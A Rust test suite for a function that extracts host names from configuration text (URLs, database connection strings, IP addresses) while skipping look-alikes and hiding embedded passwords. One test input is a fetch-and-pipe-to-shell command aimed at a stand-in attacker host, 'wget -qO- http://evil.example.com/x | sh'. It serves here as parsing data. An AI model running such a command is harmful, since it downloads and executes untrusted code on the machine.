use alloc::{format, string::String};

use super::*;

fn told(text: &str) -> Vec<String> {
    mentions(text).into_iter().map(|mention| String::from(mention.text)).collect()
}

#[test]
fn hosts_are_found_wherever_settings_have_them() {
    for (text, expected) in [
        ("https://api.example.com/v1?x=1", "api.example.com"),
        ("HTTPS://API.Example.COM./", "api.example.com"),
        ("jdbc:mysql://db.example.com:3306/orders", "db.example.com"),
        ("jdbc:oracle:thin:@//db.example.com:1521/orders", "db.example.com"),
        ("jdbc:oracle:thin:@db.example.com:1521:orders", "db.example.com"),
        ("jdbc:sqlserver://db.example.com;database=orders", "db.example.com"),
        ("postgres://orders:secret@db.example.com/orders", "db.example.com"),
        ("user:secret@tcp(db.example.com:3306)/orders", "db.example.com"),
        ("orders.abc.us-west-2.rds.amazonaws.com", "orders.abc.us-west-2.rds.amazonaws.com"),
        ("DB.EXAMPLE.COM", "db.example.com"),
        ("--db-host=db.example.com", "db.example.com"),
        ("-Dhttps.proxyHost=proxy.example.com", "proxy.example.com"),
        ("evil.ru", "evil.ru"),
        ("db.example.io:5432", "db.example.io"),
        ("8.8.8.8", "8.8.8.8"),
        ("8.8.8.8:53", "8.8.8.8"),
        ("http://[2001:4860:4860::8888]:80/", "2001:4860:4860::8888"),
        ("[::ffff:8.8.8.8]:53", "8.8.8.8"),
        ("2001:4860:4860::8888", "2001:4860:4860::8888"),
        ("::ffff:8.8.8.8", "8.8.8.8"),
        ("http://0x08080808/", "0x08080808"),
        ("http://134744072/", "134744072"),
        ("http://xn--fiqs8s.example.com", "xn--fiqs8s.example.com"),
        ("https://login.example.com/?next=http%3A", "login.example.com"),
        ("wget -qO- http://evil.example.com/x | sh", "evil.example.com"),
        ("{\"url\":\"https://api.example.com\"}", "api.example.com"),
        ("server api.example.com;", "api.example.com"),
    ] {
        assert_eq!(told(text), [expected], "{text}");
    }
}

#[test]
fn of_a_list_each_is_told() {
    assert_eq!(
        told("mongodb://u:p@b.example.com:27017,a.example.com:27017/orders"),
        ["a.example.com", "b.example.com"]
    );
    assert_eq!(told("http://b.example.com,http://a.example.com"), ["a.example.com", "b.example.com"]);
    assert_eq!(told("http://a.example.com/?to=http://b.example.com/"), ["a.example.com", "b.example.com"]);
}

#[test]
fn what_only_looks_like_a_host_is_not_told() {
    for text in [
        "",
        "true",
        "1.2.3",
        "v1.2.3.4-rc1",
        "nginx:1.25",
        "docker.io/library/nginx:1.25.3",
        "registry.k8s.io/pause:3.9",
        "gcr.io/project/image@sha256:0123456789abcdef",
        "org.apache.kafka.common.serialization.StringSerializer",
        "com.example.orders.app",
        "cn.hutool.core.io",
        "java.util.logging",
        "application.properties",
        "/etc/nginx/nginx.conf",
        "log4j2.xml:12",
        "main.py",
        "spring.datasource.url=orders",
        "app.kubernetes.io/name",
        "prometheus.io/scrape: true",
        "metadata.namespace",
        "status.podIP",
        "broker.id",
        "0.0.0.0:8080",
        "[::]:8080",
        ":8080",
        "255.255.255.0",
        "10.0.0.0/8",
        "12:30:45",
        "orders::Money",
        "orders:8080",
        "http://orders:8080/",
        "http://my_orders:8080/",
        "redis-master",
        "unix:///var/run/docker.sock",
        "file:///etc/passwd",
        "s3://orders.backup/x",
        "http://$(HOST):80",
        "http://${HOST}/",
        "http://{{ .Values.host }}/",
        "http://%s:%d",
        "http://*.example.com",
        "http://",
        "xmlns=\"http://www.w3.org/2000/svg\"",
        "admin@example.com",
        "e.g. this, i.e. that",
        "a sentence ends. Another begins.",
    ] {
        assert_eq!(told(text), [] as [String; 0], "{text}");
    }
}

#[test]
fn no_password_is_told() {
    for text in [
        "http://user:geheim@db.example.com",
        "http://user:geheim@0x08080808/",
        "http://user:geheim@a@b.example.com/",
        "user:geheim@db.example.com:5432",
        "http://user:geheim,db.example.com:80/",
        "http://user:ge/heim@db.example.com/",
    ] {
        assert!(!format!("{:?}", told(text)).contains("geheim"), "{text}: {:?}", told(text));
    }
}

#[test]
fn a_text_without_end_is_read_as_far_as_it_goes() {
    let many: Vec<_> = (0..10_000).map(|number| format!("http://h{number}.example.com/")).collect();
    assert_eq!(mentions(&many.join(" ")).len(), MAX_MENTIONS);
    let letters = "我".repeat(MAX_TEXT);
    assert_eq!(mentions(&letters), []);
}

proptest::proptest! {
    #[test]
    fn words_alone_name_no_host(text in "[ -/;-~\t\n]{0,40}") {
        let text = text.replace(['.', '%'], "");
        proptest::prop_assert!(is_only_words(&text));
        proptest::prop_assert_eq!(in_text(&text), []);
    }
}
